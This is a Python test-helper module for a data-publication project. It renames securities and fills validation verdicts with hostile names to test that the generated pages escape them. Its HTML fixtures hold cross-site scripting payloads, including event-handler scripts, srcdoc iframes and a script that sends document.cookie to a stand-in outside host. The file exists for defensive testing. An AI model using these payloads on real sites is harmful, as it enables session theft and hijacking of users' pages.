"""Months whose securities, verdicts and documents are named by somebody who means harm."""

from __future__ import annotations

from collections.abc import Mapping, Sequence

import polars as pl

from deepfactor.months import Month
from deepfactor.objects import frame_to_bytes, json_to_bytes
from deepfactor.publication import Manifest
from deepfactor.store import Store
from tests.evaluating.made_span import STOCKS
from tests.pages.made import publish_month, verdict
from tests.security.hostile import ELSEWHERE, KINDS

_KEY = ("model", "security_id", "lag", "descriptor")

# As a page would be in which somebody else's library has escaped nothing.
UNESCAPED = f"""<!DOCTYPE html><title>Docs</title><base href="//{ELSEWHERE}/">
<meta http-equiv="refresh" content="0;url=http://{ELSEWHERE}/moved">
<link rel="stylesheet" href="http://{ELSEWHERE}/a.css"><style>@import "http://{ELSEWHERE}/b.css";</style>
<body onload="document.title='taken'"><p>What the page is about</p>
<img src="http://{ELSEWHERE}/c.png" onerror="alert(1)"><svg onload="alert(2)"></svg>
<iframe src="http://{ELSEWHERE}/d"></iframe><iframe srcdoc="<script>parent.document.title='taken'</script>"></iframe>
<object data="http://{ELSEWHERE}/e"></object><embed src="http://{ELSEWHERE}/f">
<form id="form" action="http://{ELSEWHERE}/g" method="post"><input name="x" autofocus onfocus="alert(3)"></form>
<a id="top" target="_top" href="http://{ELSEWHERE}/h">follow</a>
<div style="background: url(http://{ELSEWHERE}/i)">styled</div><audio src="http://{ELSEWHERE}/j" autoplay></audio>
"""
UNESCAPED_SCRIPT = UNESCAPED + (
    "<script>document.title='taken'; fetch('/api/v2/connections'); parent.document.title='taken';"
    f"new Image().src='http://{ELSEWHERE}/k?'+document.cookie; alert(4); top.location='http://{ELSEWHERE}/l'</script>"
)


def renamed() -> dict[str, str]:
    """Return a hostile name for each of the made months' stocks, of every kind at least one."""
    chosen: list[str] = []
    for place in range(max(map(len, KINDS.values()))):
        chosen += [names[place] for names in KINDS.values() if place < len(names)]
    return dict(zip(STOCKS, chosen, strict=False))


def with_names(frame: pl.DataFrame, names: Mapping[str, str]) -> pl.DataFrame:
    """Return a table with other names of securities, in its order."""
    if "security_id" not in frame.columns:
        return frame
    changed = frame.with_columns(pl.col("security_id").replace(names))
    return changed.sort(*(each for each in _KEY if each in frame.columns))


def publish_hostile(
    store: Store, month: Month, names: Mapping[str, str], documents: Mapping[str, bytes] | None = None
) -> Manifest:
    """Publish a month whose stocks, and what was found of them, have these names.

    Parameters
    ----------
    store, month
        Where and what.
    names
        By the stock's own name.
    documents
        More objects of the run.
    """
    honest = publish_month(store, month)
    changed: dict[str, bytes] = {}
    for name, reference in honest.named_objects.items():
        if name.endswith(".parquet"):
            frame = store.read_frame(reference)
            if "security_id" in frame.columns:
                changed[name] = frame_to_bytes(with_names(frame, names))
    changed["validation/verdict.json"] = json_to_bytes(found_in(month, list(names.values())))
    return publish_month(store, month, run="hostile", change=changed | dict(documents or {}))


def found_in(month: Month, names: Sequence[str]) -> dict[str, object]:
    """Return a verdict whose every text is one of these names."""
    content = verdict(month)
    content["quarantined"] = [{"table": name, "reason": name, "rows": 1} for name in names]
    content["expectations"] = [
        {
            "table": name,
            "name": name,
            "severity": "warning",
            "scope": name,
            "success": False,
            "message": name,
            "observed": [f"{name}: close = 1", {name: name}],
            "unexpected_count": 9,
        }
        for name in names
    ]
    return content
